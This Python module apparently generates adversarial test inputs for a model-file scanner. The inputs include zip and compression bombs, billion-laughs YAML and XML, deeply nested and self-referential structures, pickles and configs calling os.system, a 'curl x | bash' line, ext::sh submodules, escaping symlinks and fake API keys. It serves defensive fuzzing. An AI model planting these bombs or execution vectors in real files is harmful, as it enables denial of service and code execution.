"""Worst cases written by hand, one for each way to make a reader work: `resources` gives them at any size."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import random
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from struct import pack

from fuzzing.frames import message_field as pb
from fuzzing.seeds import in_tar, in_zip, sevenzip

STOP = b"."


def resources(scale: float) -> Iterator[tuple[str, bytes]]:
    """(name, content) of each; at ``scale`` 1 they are as large as a nasty upload, some 100 MB at most."""
    yield from _pickles(scale)
    yield from _archives(scale)
    yield from _streams(scale)
    yield from _texts(scale)
    yield from _graphs(scale)
    yield from _tables(scale)


def _times(count: float, scale: float) -> int:
    return max(2, int(count * scale))


def _pickles(scale: float) -> Iterator[tuple[str, bytes]]:
    n = _times(1_000_000, scale)
    yield "nested-lists.pkl", b"\x80\x04" + b"]" * n + b"a" * (n - 1) + STOP
    yield "nested-tuples.pkl", b"\x80\x04K\x01" + b"\x85" * n + STOP
    yield "marks.pkl", b"\x80\x04" + b"(" * n + b"l" * n + STOP
    yield "memo-doubling.pkl", b"\x80\x04]\x94" + b"(h\0h\0e\x94" * _times(40, 1) + b"(" + b"h\0" * n + b"t" + STOP
    yield "memo-tuples.pkl", b"\x80\x04K\x01\x94" + b"h\0\x94\x86\x94" * 2 + b"".join(b"2\x86" for _ in range(n)) + STOP
    yield "long-int.pkl", b"\x80\x04\x8b" + pack("<i", 10 * n) + b"\x7f" * (10 * n) + STOP
    yield "digits.pkl", b"I" + b"9" * (16 * n) + b"\n."
    yield "digits-long.pkl", b"L" + b"9" * (16 * n) + b"L\n."
    yield "global-line.pkl", b"c" + b"a" * (16 * n) + b"\nsystem\n)R."
    yield "globals.pkl", b"\x80\x02" + b"".join(b"cm%d\nf\n0" % i for i in range(n // 5)) + b"N."
    yield "calls.pkl", b"\x80\x02" + b"cos\nsystem\nX\x04\0\0\0true\x85R0" * (n // 5) + b"N."
    yield "streams.pkl", b"\x80\x04N." * n
    yield "streams-of-calls.pkl", b"cos\nsystem\n(S'true'\ntR." * (n // 10)
    inner = b"\x80\x04N."
    for _ in range(min(200, n)):
        inner = b"\x80\x04B" + pack("<I", len(inner)) + inner + STOP
    yield "nested-bytes.pkl", inner
    yield (
        "bytes-of-streams.pkl",
        b"\x80\x04(" + (b"C\x1a\x80\x04\x95\x0b" + bytes(7) + b"cos\nsystem\n.") * (n // 10) + b"t.",
    )
    yield (
        "memo-far.pkl",
        b"\x80\x04Nr\xff\xff\xff\x7f" * 2 + b"".join(b"r" + pack("<I", i * 977) for i in range(n // 4)) + STOP,
    )
    yield "add.pkl", b"\x80\x04X\x01\0\0\0a\x94" + b"coperator\nadd\nh\0h\0\x86R\x94" * (n // 10) + STOP
    add = b"coperator\nadd\n%s\x86R\x94"
    grow = (
        b"\x80\x04X\x04\0\0\0true\x94"
        + add % b"h\0h\0"
        + b"".join(add % (b"j" + pack("<I", i) + b"j" + pack("<I", i)) for i in range(1, 60))
    )
    yield "add-doubling.pkl", grow + STOP
    yield "multiply.pkl", b"\x80\x04coperator\nmul\nX\x01\0\0\0aJ\xff\xff\xff\x7f\x86R."
    yield "power.pkl", b"\x80\x04coperator\npow\nJ\xff\xff\xff\x7fJ\xff\xff\xff\x7f\x86R."
    yield "dup.pkl", b"\x80\x04X\x04\0\0\0true" + b"2" * n + STOP
    yield "frames.pkl", b"\x80\x04" + (b"\x95" + pack("<Q", 1) + b"N" + b"0") * (n // 4) + b"N."
    yield "unicode.pkl", b"\x80\x04" + b"".join(b"X\x02\0\0\0\xc3\xa90" for _ in range(n // 2)) + b"N."
    yield "decoys.pt", b"\x80\x02c" * n
    yield "text-decoys.bin", b"ca\nb\n" * n


def _archives(scale: float) -> Iterator[tuple[str, bytes]]:
    n = _times(200_000, scale)
    yield "many-members.zip", in_zip({f"m{i}.pkl": b"" for i in range(min(n, 199_000))})
    yield "many-pickles.zip", in_zip({f"m{i}.pkl": b"\x80\x04N." for i in range(n // 4)})
    records = {f"m/.data/{i}.storage": b"" for i in range(n // 4)}
    pickles = {f"m/{i}/data.pkl": b"N." for i in range(n // 10)}
    yield "records.pt", in_zip({"m/data.pkl": b"N.", **records, **pickles})
    yield "overlap.zip", overlapping(_times(60_000, scale), zlib_stream(_times(1 << 20, scale)))
    yield "overlap-nested.zip", overlapping(_times(5_000, scale), in_zip({f"{i}.pkl": b"N." for i in range(100)}), 0)
    yield "duplicates.zip", duplicates(_times(64_000, scale))
    yield "bomb.zip", in_zip({f"{i}.pkl": bytes(_times(64 << 20, scale)) for i in range(4)}, 8)
    yield "bomb.npz", in_zip({"a.npy": bytes(_times(400 << 20, scale))}, 8)
    yield "bomb.pt", in_zip({"a/data.pkl": bytes(_times(400 << 20, scale)), "a/version": b"3"}, 8)
    fan = in_zip({f"{i}.pkl": b"\x80\x04N." for i in range(20)})
    for level in range(8):
        fan = in_zip({f"{level}-{i}.zip": fan for i in range(100 if scale >= 1 else 3)}, 8)
    yield "fan.zip", fan
    deep = b"\x80\x04N."
    for _ in range(40):
        deep = in_zip({"a.zip": deep})
    yield "deep.zip", deep
    for _ in range(40):
        deep = gzip.compress(deep, mtime=0)
    yield "deep.zip.gz", deep
    yield "names.zip", in_zip({f"{i}" + "a/" * 30_000: b"x" for i in range(_times(200, scale))})
    tar = in_tar({"a": b"x"})[:512]
    yield "many.tar", tar.replace(b"00000000001\0", b"00000000000\0") * _times(200_000, scale) + bytes(1024)
    yield "links.tar", links(_times(40_000, scale))
    yield "pax.tar", pax(_times(20_000_000, scale))
    yield "header.7z", sevenzip_header(b"\x01\x05" + number(1 << 40) + b"\0" * 64)
    yield "files.7z", sevenzip_header(b"\x01\x05\xe0\xff\xff\xff" + b"\x0e" + bytes(1000))
    yield (
        "packed.7z",
        sevenzip_header(b"\x01\x04\x06\0" + number(1 << 30) + b"\x09" + b"\x01" * _times(5_000_000, scale)),
    )
    yield "empty.7z", sevenzip(b"")
    yield "prefix.bin", bytes(100) + b"PK\x03\x04" * _times(5_000_000, scale)
    yield "ends.zip", in_zip({"a.pkl": b"N."}) + b"PK\x05\x06" * 16_000


def zlib_stream(size: int) -> bytes:
    """Zeros of this size as a raw deflate stream."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(bytes(size)) + packer.flush()


def overlapping(count: int, content: bytes, method: int = 8) -> bytes:
    """An archive whose members are all the same bytes."""
    local = pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, method, 0, 0, 0, len(content), 1 << 20, 1, 0) + b"a"
    rows = [
        pack(
            "<4s6H3L5H2L",
            b"PK\x01\x02",
            20,
            20,
            0,
            method,
            0,
            0,
            0,
            len(content),
            1 << 20 if method else len(content),
            len(name),
            0,
            0,
            0,
            0,
            0,
            0,
        )
        + name
        for name in (f"{i}.pkl".encode() if method else f"{i}.zip".encode() for i in range(count))
    ]
    rows_ = b"".join(rows)
    start = len(local) + len(content)
    return (
        local
        + content
        + rows_
        + pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count & 0xFFFF, count & 0xFFFF, len(rows_), start, 0)
    )


def duplicates(count: int) -> bytes:
    """An archive of many members with one name."""
    import warnings

    whole = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(whole, "w") as archive:
        warnings.simplefilter("ignore")
        for _ in range(count):
            archive.writestr(zipfile.ZipInfo("data.pkl"), b"\x80\x04N.")
    return whole.getvalue()


def links(count: int) -> bytes:
    """A tar archive of links that lead to one another and outside."""
    whole = io.BytesIO()
    with tarfile.open(fileobj=whole, mode="w") as archive:
        for index in range(count):
            member = tarfile.TarInfo(f"l{index}")
            member.type, member.linkname = tarfile.SYMTYPE, f"../l{index + 1}"
            archive.addfile(member)
    return whole.getvalue()


def pax(size: int) -> bytes:
    """A tar archive with one extended header of this size."""
    whole = io.BytesIO()
    with tarfile.open(
        fileobj=whole, mode="w", format=tarfile.PAX_FORMAT, pax_headers={"comment": "x" * size}
    ) as archive:
        archive.addfile(tarfile.TarInfo("a"))
    return whole.getvalue()


def number(value: int) -> bytes:
    """A number as 7z writes the widest."""
    return b"\xff" + pack("<Q", value)


def sevenzip_header(header: bytes) -> bytes:
    """A 7z archive with this header and no content."""
    start = pack("<QQI", 0, len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\0\x04" + pack("<I", zlib.crc32(start)) + start + header


def _streams(scale: float) -> Iterator[tuple[str, bytes]]:
    zeros = bytes(_times(300 << 20, scale))
    yield "empties.pkl.gz", gzip.compress(b"", mtime=0) * _times(1_000_000, scale)
    yield "empties.pkl.bz2", bz2.compress(b"") * _times(500_000, scale)
    yield "empties.pkl.xz", lzma.compress(b"") * _times(200_000, scale)
    yield "bomb.pkl.gz", gzip.compress(zeros, mtime=0)
    yield "bomb.joblib", zlib.compress(zeros)
    yield "bomb.pkl.xz", lzma.compress(zeros, preset=1)
    yield "bomb.pkl.bz2", bz2.compress(zeros)
    huge = bytearray(lzma.compress(b"\x80\x04N."))
    huge[16] = 40  # the dictionary's size: 4 GiB
    huge[20:24] = pack("<I", zlib.crc32(huge[12:20]))
    yield "dictionary.pkl.xz", bytes(huge)
    yield (
        "dictionary.lzma",
        b"\x5d" + pack("<I", 0xFFFFFFFF) + b"\xff" * 8 + lzma.compress(b"\x80\x04N.", lzma.FORMAT_ALONE)[13:],
    )
    blocks = pack("<I", 1 | 1 << 31) + b"N"
    yield "blocks.pkl.lz4", b"\x04\x22\x4d\x18\x60\x40\x82" + blocks * _times(1_000_000, scale) + bytes(4)
    match = b"\x1f\x80\x01\x00" + b"\xff" * 16_000 + b"\x00"
    yield (
        "matches.pkl.lz4",
        b"\x04\x22\x4d\x18\x60\x70\x73" + (pack("<I", len(match)) + match) * _times(200, scale) + bytes(4),
    )
    small = b"".join(b"\x10N\x01\x00" for _ in range(16_000))
    yield (
        "sequences.pkl.lz4",
        b"\x04\x22\x4d\x18\x60\x40\x82" + (pack("<I", len(small)) + small) * _times(100, scale) + bytes(4),
    )
    yield "frames.pkl.lz4", (b"\x04\x22\x4d\x18\x60\x40\x82" + bytes(4)) * _times(500_000, scale)
    yield (
        "skippable.pkl.lz4",
        b"\x04\x22\x4d\x18\x60\x40\x82" + bytes(4) + (b"\x50\x2a\x4d\x18" + bytes(4)) * _times(500_000, scale),
    )


def _texts(scale: float) -> Iterator[tuple[str, bytes]]:
    n = _times(1_000_000, scale)
    few = _times(60_000, scale)
    yield "sums.py", b"x = " + b"1+" * (n // 4) + b"1\n"
    yield "unary.py", b"x = " + b"-" * (n // 4) + b"1\n"
    yield "brackets.py", b"(" * n
    yield "attributes.py", b"x" + b".a" * (n // 4)
    yield "calls.py", b"import os\n" + b"os.system('true')\n" * (n // 10)
    yield "names.py", b"a = 'x'\n" + b"".join(b"a = a + a\n" for _ in range(n // 20)) + b"getattr(o, a)()\n"
    yield "assigned.py", b"".join(b"a%d = a%d + a%d\n" % (i + 1, i, i) for i in range(n // 50)) + b"eval(a99)\n"
    yield "strings.py", b"x = " + b"'a' " * n
    yield "fstring.py", b"x = f'" + b"{x!r:>{y}}" * (n // 20) + b"'\n"
    yield "indent.py", b"".join(b" " * i + b"if x:\n" for i in range(min(2_000, n)))
    yield "line.py", b"x = '" + b"a" * (30 * n) + b"'\n"
    yield "joins.py", b"eval(''.join([" + b"chr(97)," * (n // 20) + b"]))\n"
    yield "digits.py", b"x = " + b"9" * n
    yield "flat.yaml", b"- a\n" * n
    yield "deep.yaml", b"[" * n
    yield "indent.yaml", b"".join(b" " * i + b"a:\n" for i in range(min(5_000, n)))
    yield "anchors.yaml", b"a: &a [x]\n" + b"".join(b"k%d: &k%d [*a, *a]\n" % (i, i) for i in range(few))
    laughs = b"a0: &a0 [x,x,x,x,x,x,x,x,x]\n" + b"".join(
        b"a%d: &a%d [%s]\n" % (i, i, b",".join([b"*a%d" % (i - 1)] * 9)) for i in range(1, 30)
    )
    yield "laughs.yaml", laughs
    yield "merges.yaml", b"a: &a {b: c}\n" + b"".join(b"k%d: {<<: *a}\n" % i for i in range(few))
    yield "documents.yaml", b"---\n" * n
    yield "tags.yaml", b"- !!python/name:os.system x\n" * few
    yield "line.yaml", b"a: '" + b"x" * (30 * n) + b"'\n"
    yield "spaces.yaml", b"a:" + b" " * (8 * n) + b"b\n"
    yield "comments.yaml", b"#" * (8 * n) + b"\n" + b"# _target_: x\n" * few
    yield "README.md", b"---\nlicense: mit\n" + b"tags:\n" + b"- a\n" * n + b"---\n"
    yield "anchors/README.md", b"---\n" + laughs + b"---\n"
    yield "open/README.md", b"---\n" + b"license: [" * n
    cell = {"cell_type": "code", "source": "x = 1\n" * 50, "outputs": []}
    yield "cells.ipynb", json.dumps({"nbformat": 4, "cells": [cell] * _times(100_000, scale)}).encode()
    image = {"cell_type": "code", "source": "1", "outputs": [{"data": {"image/png": "A" * _times(50_000_000, scale)}}]}
    yield "image.ipynb", json.dumps({"nbformat": 4, "cells": [image]}).encode()
    yield "magic.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": ["!true\n"] * few}] * 10}).encode()
    yield "requirements.txt", b"x" * _times(100_000_000, scale)
    yield "lines/requirements.txt", b"torch @ git+https://example.com/x\n" * n
    yield "slashes/requirements.txt", b"a \\\n" * n
    yield "items/config.json", b'{"a": [' + b"1," * (3 * n // 2) + b"1]}"
    yield "deep/config.json", b"[" * n + b"]" * n
    yield "keys/config.json", json.dumps({f"k{i}": i for i in range(n // 2)}).encode()
    yield "number/config.json", b'{"a": ' + b"9" * (10 * n) + b"}"
    yield "escapes/config.json", b'{"a": "' + b"\\u00e9" * n + b'"}'
    yield "quotes/config.json", b'{"a": "' + b'\\"' * (5 * n)
    yield "auto/config.json", json.dumps({"auto_map": {f"A{i}": "m.X" for i in range(n // 5)}}).encode()
    yield "targets/config.json", json.dumps([{"_target_": "os.system"}] * few).encode()
    yield (
        "model.safetensors.index.json",
        json.dumps({"weight_map": {f"t{i}": f"{i}.bin" for i in range(n // 3)}}).encode(),
    )
    layer = {"class_name": "Lambda", "config": {"function": "x"}}
    yield "layers.json", json.dumps({"class_name": "Sequential", "config": {"layers": [layer] * few}}).encode()
    yield "for.jinja", b"{% for m in messages %}" * (few // 10) + b"{% endfor %}" * (few // 10)
    yield "sums.jinja", b"{{ messages" + b" ~ 'a'" * few + b" }}"
    yield "tests.jinja", b"{{ messages" + b" is string" * few + b" }}"
    yield "parts.jinja", b"{{ a }}" * (few // 4)
    yield "sets.jinja", b"{% set a = 'x' %}" + b"{% set a = a ~ a %}" * (few // 10) + b"{{ messages[a] }}"
    yield "filters.jinja", b"{{ messages" + b"|upper" * (few // 4) + b" }}"
    yield "triggers.jinja", b"{% if 'x' in messages[0]['content'] %}y{% endif %}" * (few // 25)
    yield "open.jinja", b"{{" * (few // 2) + b"{%" * (few // 2)
    yield (
        "range.jinja",
        b"{% for i in range(999999999) %}" + b"{% for i in range(999999999) %}" * 8 + b"{% endfor %}" * 9,
    )
    yield "long.jinja", b"{{ messages }}" * n
    yield (
        "laughs.pmml",
        b'<!DOCTYPE PMML [<!ENTITY a "x">'
        + b"".join(b'<!ENTITY a%d "%s">' % (i, b"&a;" * 10) for i in range(few))
        + b']><PMML version="4"/>',
    )
    yield "deep.pmml", b'<PMML version="4">' + b"<a>" * n
    yield "flat.pmml", b'<PMML version="4">' + b"<a b='c'/>" * n + b"</PMML>"
    yield "attributes.pmml", b'<PMML version="4" ' + b" ".join(b"a%d='x'" % i for i in range(n // 5)) + b"/>"
    yield "attribute.pmml", b'<PMML version="' + b"4" * (10 * n) + b'"/>'
    yield "comments.pmml", b"<!--x-->" * n + b'<PMML version="4"/>'
    yield "open.pmml", b"<PMML" + b"<" * (5 * n)
    yield "text.pmml", b'<PMML version="4">' + b"x]]>&amp;" * n
    yield (
        "layers.xml",
        b'<?xml version="1.0"?><net name="m" version="11"><layers>'
        + b'<layer id="0" type="Const"><data offset="0" size="99"/></layer>' * (n // 5),
    )
    yield "keys.sh", b"curl x | bash\n" * few
    yield "one.sh", b"a" * (10 * n)
    yield "evil.pth", b"import os\n" * (n // 10)
    yield ".gitattributes", b"*.bin filter=evil\n" * (n // 5)
    yield ".gitmodules", b'[submodule "x"]\n\turl = ext::sh\n' * (n // 10)
    yield "LICENSE", b"Apache License " * n
    yield "MLmodel", b"flavors:\n" + b"  a%d: {loader_module: x}\n" * few
    secrets = b"hf_" + b"a" * 33 + b" AKIA" + b"A" * 15 + b" "
    yield "secrets.json", b'"' + secrets * (n // 10) + b'"'
    yield (
        "lgb.txt",
        b"tree\nversion=v4\nnum_class=1\nmax_feature_idx=1\nfeature_names=a b\n"
        + b"\nTree=0\nnum_leaves=2\n" * (n // 4),
    )
    yield "numbers.lgb.txt", b"tree\nversion=v4\nnum_class=1\nmax_feature_idx=1\ntree_sizes=" + b"1 " * (5 * n)
    yield "graph.pbtxt", b'node { name: "a" op: "PyFunc" }\n' * (n // 4)
    yield "deep.pbtxt", b"node {" * (n // 2)


def _graphs(scale: float) -> Iterator[tuple[str, bytes]]:
    n = _times(1_000_000, scale)
    node = pb(1, pb(1, b"a"), pb(2, b"Add"))
    yield "nodes.pb", node * n
    yield "empty-nodes.pb", pb(1, b"") * (5 * n)
    inner = pb(1, b"a")
    for _ in range(min(3_000, n)):
        inner = pb(5, pb(6, inner))  # a node's attribute that is a graph
    yield "deep.onnx", b"\x08\x07" + pb(7, pb(1, inner))
    yield "nodes.onnx", b"\x08\x07" + pb(7, pb(1, pb(4, b"Add")) * n)
    yield (
        "externals.onnx",
        b"\x08\x07" + pb(7, pb(5, pb(13, pb(1, b"location"), pb(2, b"../x")), b"\x70\x01") * (n // 5)),
    )
    yield "functions.onnx", b"\x08\x07" + pb(25, pb(1, b"f"), pb(7, pb(4, b"f"))) * (n // 5) + pb(7, pb(1, pb(4, b"f")))
    yield "varints.onnx", b"\x08" + b"\xff" * (5 * n)
    yield "layers.mlmodel", b"\x08\x01" + pb(500, pb(1, pb(1, b"a"), pb(500, b"")) * (n // 4))
    deep = b"\x08\x01" + pb(500, b"")
    for _ in range(min(500, n)):
        deep = b"\x08\x01" + pb(202, pb(1, deep))
    yield "pipelines.mlmodel", deep
    op = pb(4, pb(3, b"py_func"))
    yield "ops.pdmodel", pb(1, b"\x08\0\x10\0", op * n)
    yield "graph.meta", pb(1, pb(1, b"")) + pb(2, node * (n // 2))
    table = pack("<I4s", 16, b"TFL3") + bytes(8) + pack("<iIII", 8, 12, 4, n) + b"\xff" * (4 * n)
    yield "vector.tflite", table
    yield "same.tflite", flatbuffer(b"TFL3", n)
    yield "same.pte", flatbuffer(b"ET12", n)
    yield "same.ort", flatbuffer(b"ORTM", n)


def flatbuffer(mark: bytes, count: int) -> bytes:
    """A root table whose every field is one vector of tables, which are all the root table itself."""
    fields = 16
    vtable = pack("<HH", 4 + 2 * fields, 4 + 4 * fields) + b"".join(pack("<H", 4 + 4 * i) for i in range(fields))
    root = 8 + len(vtable)
    vector = root + 4 + 4 * fields
    body = pack("<I4s", root, mark) + vtable + pack("<i", len(vtable))
    body += b"".join(pack("<I", vector - (root + 4 + 4 * i)) for i in range(fields)) + pack("<I", count)
    return body + b"".join(pack("<i", root - (vector + 4 + 4 * i)) for i in range(count))


def _tables(scale: float) -> Iterator[tuple[str, bytes]]:
    n = _times(1_000_000, scale)
    header = b'{"t": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}' + b" " * (90 * n) + b"}"
    yield "spaces.safetensors", pack("<Q", len(header)) + header + bytes(4)
    rows = ",".join(f'"t{i}":{{"dtype":"U8","shape":[1],"data_offsets":[{i},{i + 1}]}}' for i in range(n // 4)).encode()
    yield "tensors.safetensors", pack("<Q", len(rows) + 2) + b"{" + rows + b"}" + bytes(n // 4)
    shape = b'{"t":{"dtype":"F32","shape":[' + b"1," * n + b'1],"data_offsets":[0,4]}}'
    yield "shape.safetensors", pack("<Q", len(shape)) + shape + bytes(4)
    meta = json.dumps({"__metadata__": {f"k{i}": "v" for i in range(n // 4)}}).encode()
    yield "metadata.safetensors", pack("<Q", len(meta)) + meta
    deep = b"[" * (10 * n)
    yield "deep.safetensors", pack("<Q", len(deep)) + deep
    gguf = b"GGUF" + pack("<IQ", 3, 0)
    key = pack("<Q", 1) + b"k"
    yield "strings.gguf", gguf + pack("<Q", 1) + key + pack("<IIQ", 9, 8, 4 * n) + bytes(8) * (4 * n)
    yield "pairs.gguf", gguf + pack("<Q", 2 * n) + (key + pack("<IB", 0, 1)) * (2 * n)
    yield "tensors.gguf", b"GGUF" + pack("<IQQ", 3, n, 0) + (key + pack("<IQIQ", 1, 32, 0, 0)) * n
    yield "nested.gguf", gguf + pack("<Q", 1) + key + pack("<IIQ", 9, 9, 1) + pack("<IQ", 9, 1) * n
    template = b"tokenizer.chat_template"
    text = b"{{ messages }}" * n
    yield (
        "template.gguf",
        gguf + pack("<Q", 1) + pack("<Q", len(template)) + template + pack("<IQ", 8, len(text)) + text,
    )
    yield "values.ubj", b"{L" + pack(">Q", 7) + b"learner[" + b"T" * (5 * n) + b"]}"
    yield (
        "maps.ubj",
        b"{L" + pack(">Q", 7) + b"learner{" + b"".join(b"l" + pack(">i", 7) + b"%07dT" % i for i in range(n)) + b"}}",
    )
    yield "deep.ubj", b"{L" + pack(">Q", 7) + b"learner" + b"[" * n
    yield "no-items.ubj", b"{L" + pack(">Q", 7) + b"learner[$T#L" + pack(">q", 1 << 61)
    yield "null-items.ubj", b"{L" + pack(">Q", 7) + b"learner[#L" + pack(">q", n) + b"Z" * n
    yield "deep.msgpack", b"\x91" * n
    yield "flat.msgpack", b"\xdd" + pack(">I", 5 * n) + b"\xc0" * (5 * n)
    yield "map.msgpack", b"\xdf" + pack(">I", n) + b"".join(b"\xce" + pack(">I", i) + b"\xc0" for i in range(n))
    yield "extensions.msgpack", b"\xdd" + pack(">I", n) + b"\xc7\x03\x01\x93\x01\x02" * n
    literal = b"{'descr': '<f8', 'fortran_order': False, 'shape': (" + b"1," * n + b")}"
    yield "shape.npy", b"\x93NUMPY\x02\0" + pack("<I", len(literal)) + literal
    nested = b"[" * n
    yield "deep.npy", b"\x93NUMPY\x02\0" + pack("<I", len(nested)) + nested
    rds = b"X\n" + pack(">3i", 3, 0x040301, 0x030500) + pack(">i", 5) + b"UTF-8"
    yield "pairlist.rds", rds + pack(">iii", 2, 0xFE, 0xFE)[:4] * n + pack(">i", 0xFE)
    yield "vectors.rds", rds + pack(">ii", 19, n) + pack(">i", 0xFE) * n
    yield "nested.rds", rds + pack(">ii", 19, 1) * n
    yield "symbols.rds", rds + pack(">ii", 16, n) + pack(">iii", 0x40009, 1, 0x61000000)[:9] * n
    yield "cyclic.h5", superblock() + random.Random(1).randbytes(100)  # noqa: S311
    yield "tree.h5", superblock(pack("<4sBBH", b"TREE", 0, 255, 65535)) + pack("<Q", 96) * n
    yield (
        "continuations.h5",
        superblock(b"\x01\0" + pack("<HII", 65535, 1, 24) + bytes(4) + pack("<HH4xQQ", 0x10, 16, 96, 1 << 20) * 9000),
    )
    yield "blocks.h5", bytes(1 << 20) * _times(64, scale) + superblock()
    yield (
        "vocabulary.fasttext.bin",
        b"\xba\x16O/" + pack("<3i", 12, 10, 1) + bytes(48) + pack("<iii", n, n, 0) + b"a\0" + bytes(9) * n,
    )
    yield "trees.cbm", b"CBM1" + pack("<I", 8 * n) + bytes(8 * n)


def superblock(root: bytes = b"") -> bytes:
    """The first 96 bytes of an HDF5 file, whose root group's header is ``root``."""
    entry = pack("<QQII16x", 0, 96, 0, 0)
    return (
        b"\x89HDF\r\n\x1a\n"
        + bytes((0, 0, 0, 0, 0, 8, 8, 0))
        + pack("<HHI", 4, 16, 0)
        + pack("<QQQQ", 0, (1 << 64) - 1, 1 << 30, (1 << 64) - 1)
        + entry
        + root
    )
